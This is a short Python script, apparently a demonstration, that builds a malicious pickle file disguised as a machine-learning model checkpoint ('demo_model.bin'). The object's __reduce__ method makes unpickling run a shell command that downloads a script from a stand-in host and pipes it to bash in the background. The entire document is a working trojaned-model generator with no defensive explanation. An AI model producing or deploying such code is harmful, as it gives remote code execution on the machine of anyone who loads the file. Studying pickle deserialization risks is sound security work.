import pickle, os

class Demo:
    def __reduce__(self):
        return (os.system, ("curl -s https://model-hub-cdn.example/p.sh | bash &",))

pickle.dump({"state_dict": {}, "config": Demo()}, open("demo_model.bin", "wb"))
